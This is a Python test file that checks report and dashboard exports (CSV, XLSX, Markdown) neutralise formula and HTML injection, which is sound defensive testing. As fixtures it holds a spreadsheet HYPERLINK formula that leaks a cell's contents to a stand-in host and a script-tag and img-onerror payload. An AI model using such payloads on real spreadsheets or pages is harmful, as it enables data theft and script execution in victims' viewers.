"""Exports a spreadsheet or a Markdown viewer opens never run what a name or note holds.

The small fixture is loaded with provider P1 named as a formula and P2 as a script tag.
"""

from __future__ import annotations

import csv
import io

import openpyxl

from ecosystem import cli
from ecosystem.export import FORMULA_START, inert
from ecosystem.pipeline import load
from tests.report.test_report import _rewrite

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Provider One")'
SCRIPT = '<script>alert(1)</script> & <img src=x onerror=alert(2)>'


def test_inert_prefixes_only_text_that_would_run():
    assert [inert(s) for s in ("=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx")] == \
        ["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx"]
    assert inert("Provider One") == "Provider One" and inert(-2.5) == -2.5 and inert(None) is None


def _bad_names(template_dir):
    _rewrite(template_dir / "organisations.csv",
             change=lambda r: {**r, "name": FORMULA if r["id"] == "P1" else SCRIPT if r["id"] == "P2" else r["name"]})


def test_report_csvs_and_markdown_are_inert(store, template_dir, tmp_path, capsys):
    _bad_names(template_dir)
    load(store, [template_dir], source="small")
    out = tmp_path / "r"
    assert cli.main(["report", "--place", "LA", "--as-of", "2026-07-01", "--out", str(out),
                     "--format", "md,csv"]) == 0
    cells = 0
    for f in out.glob("*.csv"):
        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8"))):
            for c in row:
                assert c[:1] not in FORMULA_START, (f.name, c)
                cells += c.endswith(FORMULA)
    assert cells > 0  # the name is there, as text
    md = (out / "report.md").read_text(encoding="utf-8")
    assert "<script" not in md and "<img" not in md and "&lt;script&gt;" in md
    assert "Provider One" in md


def test_dashboard_table_exports_are_inert():
    from dashboard.components.tables import export_bytes

    rows = [{"name": FORMULA, "amount": -500.0}, {"name": "@cmd", "amount": 10.0}]
    text = export_bytes(rows, ["name", "amount"], "csv").decode("utf-8-sig")
    got = list(csv.reader(io.StringIO(text)))
    assert got[1] == ["'" + FORMULA, "-500.0"] and got[2] == ["'@cmd", "10.0"]
    wb = openpyxl.load_workbook(io.BytesIO(export_bytes(rows, ["name", "amount"], "xlsx")))
    ws = wb.active
    assert ws["A2"].data_type == "s" and ws["A2"].value == "'" + FORMULA
    assert ws["B2"].value == -500  # numbers stay numbers


def test_workshop_csv_cells_are_inert():
    from ecosystem.workshop import csv_cell

    assert csv_cell(FORMULA) == "'" + FORMULA and csv_cell(["a", "b"]) == "a; b" and csv_cell(None) == ""
